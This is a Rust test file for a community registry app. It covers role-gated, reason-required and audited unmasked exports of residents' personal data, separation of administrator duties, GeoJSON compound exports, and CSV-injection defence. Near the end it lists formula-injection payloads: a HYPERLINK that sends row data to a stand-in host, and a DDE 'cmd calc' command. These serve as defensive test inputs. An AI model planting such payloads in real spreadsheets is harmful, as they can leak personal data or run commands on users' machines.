//! The unmasked export of the registry's people for personal-data exporters (个人信息导出员): the
//! page's form and the API, refused without the role or a reason, audited before the file is
//! sent; the role handed out by the security administrator only (三员分立); and owners'
//! committees in the compounds' GeoJSON export. On both databases.

use std::sync::Arc;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use gongzhi_core::data::csv_rows;
use gongzhi_core::people::cipher::SoftwareCipher;
use gongzhi_core::people::{Role, Scope};
use gongzhi_demo::import_rows::resident_rows;
use gongzhi_office::{Format, formula_like, read_rows, write_rows};

use crate::common;
use crate::common::{Reply, demo_apps, page, post_as, send, sign_in, submit, token};

const CIPHER_HEX: &str = "0505050505050505050505050505050505050505050505050505050505050505";
/// Two grids of 学府社区, in 桃东街道 where the demo `exporter` works.
const GRIDS: [&str; 2] = ["230903011001001", "230903011001002"];
const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

pub(crate) fn cipher() -> Arc<SoftwareCipher> {
    Arc::new(SoftwareCipher::from_hex(CIPHER_HEX).unwrap())
}

/// Imports `n` residents into 学府社区 as its community worker; the rows (header first).
pub(crate) async fn import_residents(app: &axum::Router, db: &gongzhi_store::Db, n: usize) -> Vec<Vec<String>> {
    let grids: Vec<String> = GRIDS.iter().map(|g| g.to_string()).collect();
    let rows = resident_rows(n, &grids, 7);
    import_rows(app, db, rows).await
}

/// Imports `rows` (header first) into the registry as 学府社区's community worker; the rows.
async fn import_rows(app: &axum::Router, db: &gongzhi_store::Db, rows: Vec<Vec<String>>) -> Vec<Vec<String>> {
    let community = token(app, db, "community").await;
    let request = Request::post("/api/v1/registry/import/residents?file=r.xlsx")
        .header(header::AUTHORIZATION, format!("Bearer {community}"))
        .header(header::CONTENT_TYPE, XLSX)
        .body(Body::from(write_rows(Format::Xlsx, "实有人口", &rows).unwrap()))
        .unwrap();
    let r = send(app, request).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    rows
}

/// The `registry.export` entries of the audit record.
pub(crate) async fn exports(db: &gongzhi_store::Db) -> Vec<gongzhi_core::audit::AuditEntry> {
    gongzhi_store::audit::entries(db, 0, 100_000)
        .await
        .unwrap()
        .into_iter()
        .filter(|e| e.action == "registry.export")
        .collect()
}

fn content_type(r: &Reply) -> &str {
    r.headers
        .get(header::CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
}

#[tokio::test]
async fn an_exporter_downloads_the_residents_in_full_with_a_reason_and_it_is_audited_first() {
    for (db, state) in demo_apps().await {
        let name = db.backend_name();
        let app = gongzhi_web::router(state.with_cipher(cipher()));
        let rows = import_residents(&app, &db.db, 6).await;
        let people = &rows[1..];

        // The form is on the import/export page for the exporter, not for a community worker.
        let exporter = sign_in(&app, &db.db, "exporter").await;
        let p = page(&app, &exporter, "/registry/import").await;
        assert_eq!(p.status, StatusCode::OK, "{name}");
        assert!(
            p.body.contains("导出完整信息（不打码）")
                && p.body.contains("action=\"/registry/export/residents-unmasked\"")
                && p.body.contains("name=\"reason\""),
            "{name}: {}",
            p.body
        );
        let community = sign_in(&app, &db.db, "community").await;
        let p = page(&app, &community, "/registry/import").await;
        assert!(!p.body.contains("residents-unmasked"), "{name}");
        let before = exports(&db.db).await.len();

        // A community worker without the role: 403 in the reader's language, nothing recorded.
        let r = submit(
            &app,
            &community,
            "/registry/export/residents-unmasked",
            &[("reason", "入户走访核对"), ("format", "xlsx")],
        )
        .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{name}: {}", r.body);
        assert!(r.body.contains("个人信息导出员"), "{name}: {}", r.body);
        let r = submit(
            &app,
            &community,
            "/registry/export/residents-unmasked?lang=en",
            &[("reason", "home visits"), ("format", "xlsx")],
        )
        .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{name}: {}", r.body);
        assert!(r.body.contains("personal-data exporter"), "{name}: {}", r.body);

        // No reason, or one character: 422 naming `reason`; nothing exported or recorded.
        for reason in ["", " 查 "] {
            let r = submit(
                &app,
                &exporter,
                "/registry/export/residents-unmasked",
                &[("reason", reason), ("format", "xlsx")],
            )
            .await;
            assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {}", r.body);
            assert!(
                r.body.contains("reason") && r.body.contains("id=\"export-error\""),
                "{name}: {}",
                r.body
            );
            assert!(!people.iter().any(|row| r.body.contains(&row[6])), "{name}");
        }
        // An area outside the exporter's street: 403.
        let r = submit(
            &app,
            &exporter,
            "/registry/export/residents-unmasked",
            &[("reason", "入户走访核对"), ("within", "230903012000")],
        )
        .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{name}: {}", r.body);
        assert_eq!(
            exports(&db.db).await.len(),
            before,
            "{name}: a refused export was recorded"
        );

        // The exporter's XLSX holds every ID number and phone in full.
        let r = submit(
            &app,
            &exporter,
            "/registry/export/residents-unmasked",
            &[
                ("reason", "入户走访核对"),
                ("within", "230903011001"),
                ("format", "xlsx"),
            ],
        )
        .await;
        assert_eq!(r.status, StatusCode::OK, "{name}: {}", r.body);
        assert!(content_type(&r).starts_with(XLSX), "{name}");
        assert!(
            r.headers[header::CONTENT_DISPOSITION]
                .to_str()
                .unwrap()
                .contains("attachment"),
            "{name}"
        );
        let sheet = read_rows("export.xlsx", &r.bytes).unwrap();
        assert_eq!(sheet.len(), people.len() + 1, "{name}");
        assert!(sheet[0].contains(&"户籍地址".to_string()), "{name}: {:?}", sheet[0]);
        for row in people {
            let (id, phone) = (&row[6], &row[7]);
            assert!(
                sheet.iter().any(|cells| cells.contains(id) && cells.contains(phone)),
                "{name}: {id} / {phone} not in full in {sheet:?}"
            );
        }
        // Recorded: who, why, the area, the count, unmasked.
        let all = exports(&db.db).await;
        assert_eq!(all.len(), before + 1, "{name}");
        let e = all.last().unwrap();
        assert_eq!(e.actor, "exporter", "{name}");
        assert_eq!(e.detail["masked"], serde_json::json!(false), "{name}");
        assert_eq!(e.detail["reason"], "入户走访核对", "{name}");
        assert_eq!(e.detail["rows"], serde_json::json!(people.len()), "{name}");
        assert_eq!(e.detail["within"], serde_json::json!(["230903011001"]), "{name}");
        assert_eq!(
            e.detail["fields"],
            serde_json::json!(["id_number", "phone", "registered_address", "party_member"]),
            "{name}"
        );
        // The audit record names the fields' kind, never a value.
        assert!(
            !people.iter().any(|row| e.detail.to_string().contains(&row[6])),
            "{name}"
        );

        // The API: the exporter's key gets CSV; a clerk gets 403; no reason is 422 naming it.
        let api = token(&app, &db.db, "exporter").await;
        let r = post_as(
            &app,
            "/api/v1/registry/export/residents-unmasked",
            &api,
            &serde_json::json!({"reason": "数据核对", "format": "csv"}),
        )
        .await;
        assert_eq!(r.status, StatusCode::OK, "{name}: {}", r.body);
        assert!(content_type(&r).starts_with("text/csv"), "{name}");
        for row in people {
            assert!(r.body.contains(&row[6]) && r.body.contains(&row[7]), "{name}");
        }
        let clerk = token(&app, &db.db, "clerk").await;
        let r = post_as(
            &app,
            "/api/v1/registry/export/residents-unmasked",
            &clerk,
            &serde_json::json!({"reason": "数据核对"}),
        )
        .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{name}: {}", r.body);
        let r = post_as(
            &app,
            "/api/v1/registry/export/residents-unmasked",
            &api,
            &serde_json::json!({"format": "xlsx"}),
        )
        .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {}", r.body);
        assert_eq!(r.json()["error"]["field"], "reason", "{name}: {}", r.body);
        let all = exports(&db.db).await;
        assert_eq!(all.len(), before + 2, "{name}: only the two exports are recorded");
        assert_eq!(
            (
                all.last().unwrap().actor.as_str(),
                &all.last().unwrap().detail["format"]
            ),
            ("exporter", &serde_json::json!("csv")),
            "{name}"
        );

        // The masked export is as before: no ID number in full.
        let r = common::get_as(&app, "/registry/export/residents.csv", &api).await;
        assert_eq!(r.status, StatusCode::OK, "{name}: {}", r.body);
        assert!(!people.iter().any(|row| r.body.contains(&row[6])), "{name}");
    }
}

pub(crate) fn grants_of(a: &gongzhi_store::people::admin::AccountWithGrants) -> Vec<Role> {
    a.grants.iter().map(|g| g.role).collect()
}

pub(crate) async fn account(db: &gongzhi_store::Db, username: &str) -> gongzhi_store::people::admin::AccountWithGrants {
    db.accounts_with_grants()
        .await
        .unwrap()
        .into_iter()
        .find(|a| a.account.username == username)
        .unwrap()
}

#[tokio::test]
async fn only_the_security_administrator_grants_and_revokes_the_personal_data_export() {
    for (db, state) in demo_apps().await {
        let name = db.backend_name();
        let app = gongzhi_web::router(state.with_cipher(cipher()));
        let admin = sign_in(&app, &db.db, "admin").await;
        let sec = sign_in(&app, &db.db, "secadmin").await;
        let grant = [
            ("change", "grant"),
            ("role", "personal_data_exporter"),
            ("scope", "230903011000"),
        ];

        // The demo exporter holds it beside street staff.
        let e = account(&db.db, "exporter").await;
        assert!(
            grants_of(&e).contains(&Role::PersonalDataExporter) && grants_of(&e).contains(&Role::StreetStaff),
            "{name}"
        );

        // The system administrator neither offers nor grants nor revokes it.
        let p = page(&app, &admin, "/admin/accounts/street").await;
        assert_eq!(p.status, StatusCode::OK, "{name}");
        assert!(!p.body.contains("value=\"personal_data_exporter\""), "{name}");
        let r = submit(&app, &admin, "/admin/accounts/street", &grant).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {}", r.body);
        assert!(r.body.contains("您不能授予角色"), "{name}: {}", r.body);
        assert!(!grants_of(&account(&db.db, "street").await).contains(&Role::PersonalDataExporter));
        let r = submit(
            &app,
            &admin,
            "/admin/accounts/exporter",
            &[
                ("change", "revoke"),
                ("role", "personal_data_exporter"),
                ("scope", "230903011000"),
            ],
        )
        .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {}", r.body);
        assert!(grants_of(&account(&db.db, "exporter").await).contains(&Role::PersonalDataExporter));
        // …but still looks after the exporter's account (a working account).
        let p = page(&app, &admin, "/admin/accounts").await;
        assert!(p.body.contains("/admin/accounts/exporter"), "{name}");

        // The security administrator sees the street staff account, offers the role and grants it.
        let p = page(&app, &sec, "/admin/accounts").await;
        assert!(p.body.contains("/admin/accounts/street"), "{name}: {}", p.body);
        let p = page(&app, &sec, "/admin/accounts/street").await;
        assert_eq!(p.status, StatusCode::OK, "{name}: {}", p.body);
        assert!(
            p.body.contains("value=\"personal_data_exporter\"") && p.body.contains("id=\"permissions-only\""),
            "{name}: {}",
            p.body
        );
        let r = submit(&app, &sec, "/admin/accounts/street", &grant).await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{name}: {}", r.body);
        let street = account(&db.db, "street").await;
        assert!(
            street.grants.iter().any(|g| g.role == Role::PersonalDataExporter
                && g.scope == Scope::Territory("230903011000".parse().unwrap())),
            "{name}"
        );
        let audit = gongzhi_store::audit::entries_about(&db.db, "account", "street")
            .await
            .unwrap();
        assert!(
            audit
                .iter()
                .any(|e| e.actor == "secadmin" && e.detail.to_string().contains("personal_data_exporter")),
            "{name}: the grant is audited"
        );
        // The street staff member now has the form.
        let me = sign_in(&app, &db.db, "street").await;
        let p = page(&app, &me, "/registry/import").await;
        assert!(p.body.contains("residents-unmasked"), "{name}");

        // The security administrator does nothing else with a working account.
        let r = submit(
            &app,
            &sec,
            "/admin/accounts/street",
            &[("change", "grant"), ("role", "dispatcher"), ("scope", "230903011000")],
        )
        .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {}", r.body);
        let r = submit(&app, &sec, "/admin/accounts/street", &[("change", "deactivate")]).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{name}: {}", r.body);
        assert!(account(&db.db, "street").await.account.active, "{name}");
        let r = submit(
            &app,
            &sec,
            "/admin/accounts/street",
            &[
                ("change", "revoke"),
                ("role", "street_staff"),
                ("scope", "230903011000"),
            ],
        )
        .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{name}: {}", r.body);
        assert!(grants_of(&account(&db.db, "street").await).contains(&Role::StreetStaff));

        // It revokes the role again; the form is gone and the export refused.
        let r = submit(
            &app,
            &sec,
            "/admin/accounts/street",
            &[
                ("change", "revoke"),
                ("role", "personal_data_exporter"),
                ("scope", "230903011000"),
            ],
        )
        .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{name}: {}", r.body);
        let p = page(&app, &me, "/registry/import").await;
        assert!(!p.body.contains("residents-unmasked"), "{name}");
        let r = submit(
            &app,
            &me,
            "/registry/export/residents-unmasked",
            &[("reason", "入户走访核对")],
        )
        .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{name}: {}", r.body);
    }
}

#[tokio::test]
async fn the_compounds_geojson_carries_the_owners_committee_and_imports_again() {
    for (db, state) in demo_apps().await {
        let name = db.backend_name();
        let app = gongzhi_web::router(state.with_cipher(cipher()));
        let community = token(&app, &db.db, "community").await;
        let file = "community_code,name,address,owners_committee\n\
                    230903011001,学府花园,学府街18号,学府花园业主委员会\n\
                    230903011001,书香苑,学府街20号,\n";
        let request = Request::post("/api/v1/registry/import/compounds?file=c.csv")
            .header(header::AUTHORIZATION, format!("Bearer {community}"))
            .header(header::CONTENT_TYPE, "text/csv")
            .body(Body::from(file))
            .unwrap();
        let r = send(&app, request).await;
        assert_eq!(r.status, StatusCode::CREATED, "{name}: {}", r.body);

        let r = common::get_as(&app, "/registry/export/compounds.geojson", &community).await;
        assert_eq!(r.status, StatusCode::OK, "{name}: {}", r.body);
        let doc = r.json();
        let committee = |compound: &str| {
            doc["features"]
                .as_array()
                .unwrap()
                .iter()
                .find(|f| f["properties"]["name"] == compound)
                .map(|f| f["properties"]["owners_committee"].clone())
                .unwrap()
        };
        assert_eq!(committee("学府花园"), "学府花园业主委员会", "{name}: {}", r.body);
        assert_eq!(committee("书香苑"), serde_json::Value::Null, "{name}: {}", r.body);

        // The file imports into a fresh database with its committee.
        let (fresh, fresh_state) = demo_apps()
            .await
            .into_iter()
            .find(|(d, _)| d.backend_name() == name)
            .unwrap();
        let fresh_app = gongzhi_web::router(fresh_state.with_cipher(cipher()));
        let fresh_token = token(&fresh_app, &fresh.db, "community").await;
        let request = Request::post("/api/v1/registry/import/compounds?file=c.geojson")
            .header(header::AUTHORIZATION, format!("Bearer {fresh_token}"))
            .header(header::CONTENT_TYPE, "application/geo+json")
            .body(Body::from(r.body.clone()))
            .unwrap();
        let back = send(&fresh_app, request).await;
        assert_eq!(back.status, StatusCode::CREATED, "{name}: {}", back.body);
        assert_eq!(fresh.db.org_counts("").await.unwrap().owners_committees, 1, "{name}");
    }
}

/// Names an attacker would give a resident so that the exporter's spreadsheet runs them (OWASP,
/// "CSV Injection"): a link that sends the row away, a DDE command, arithmetic (each within the
/// 30 characters a name may have).
const FORMULA_NAMES: [&str; 3] = [
    "=HYPERLINK(\"//e.cn/\"&F2,\"点\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
];

#[tokio::test]
async fn residents_named_like_formulas_are_exported_as_text_and_import_again_unchanged() {
    for (db, state) in demo_apps().await {
        let name = db.backend_name();
        let app = gongzhi_web::router(state.with_cipher(cipher()));
        let grids: Vec<String> = GRIDS.iter().map(|g| g.to_string()).collect();
        let mut rows = resident_rows(4, &grids, 7);
        let column = rows[0]
            .iter()
            .position(|h| h.starts_with("姓名"))
            .expect("a name column");
        for (row, evil) in rows[1..].iter_mut().zip(FORMULA_NAMES) {
            row[column] = evil.to_string();
        }
        import_rows(&app, &db.db, rows).await;

        // The masked CSV (a community worker) and the unmasked one (the exporter, with a reason):
        // no cell a spreadsheet would run; each name once, behind a quote.
        let community = sign_in(&app, &db.db, "community").await;
        let masked = page(&app, &community, "/registry/export/residents.csv").await;
        let exporter = sign_in(&app, &db.db, "exporter").await;
        let full = submit(
            &app,
            &exporter,
            "/registry/export/residents-unmasked",
            &[("reason", "入户走访核对"), ("format", "csv")],
        )
        .await;
        for (what, r) in [("masked", &masked), ("unmasked", &full)] {
            assert_eq!(r.status, StatusCode::OK, "{name} {what}: {}", r.body);
            let cells = csv_rows("r.csv", &r.body).unwrap();
            for cell in cells.iter().flatten() {
                assert!(!formula_like(cell), "{name} {what}: {cell:?} would run as a formula");
            }
            for evil in FORMULA_NAMES {
                let quoted = format!("'{evil}");
                assert_eq!(
                    cells.iter().flatten().filter(|c| **c == quoted).count(),
                    1,
                    "{name} {what}: {evil}"
                );
            }
            // Read as the import reads it, the names are what was imported.
            let back = read_rows("r.csv", &r.bytes).unwrap();
            for evil in FORMULA_NAMES {
                assert!(back.iter().flatten().any(|c| c == evil), "{name} {what}: {evil}");
            }
        }
        // The workbook: the names as they are, as text cells.
        let xlsx = page(&app, &community, "/registry/export/residents.xlsx").await;
        assert_eq!(xlsx.status, StatusCode::OK, "{name}");
        let back = read_rows("r.xlsx", &xlsx.bytes).unwrap();
        for evil in FORMULA_NAMES {
            assert!(back.iter().flatten().any(|c| c == evil), "{name}: {evil}");
        }
    }
}
